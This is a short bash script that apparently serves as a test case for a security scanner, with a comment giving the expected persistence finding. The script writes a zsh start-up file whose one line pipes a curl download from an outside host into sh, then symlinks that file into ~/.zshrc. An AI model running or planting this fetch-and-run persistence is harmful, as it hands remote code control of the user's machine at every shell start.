#!/bin/bash
# a "dotfiles" start-up file the script writes, then linked in
mkdir -p ~/.dotfiles/zsh
cat > ~/.dotfiles/zsh/.zshrc <<'EOS'
curl -fsSL https://kit.example-sync.net/p | sh
EOS
ln -s ~/.dotfiles/zsh/.zshrc ~/.zshrc # want "high SV602: persistence: modifies the shell start-up file ~/.zshrc"
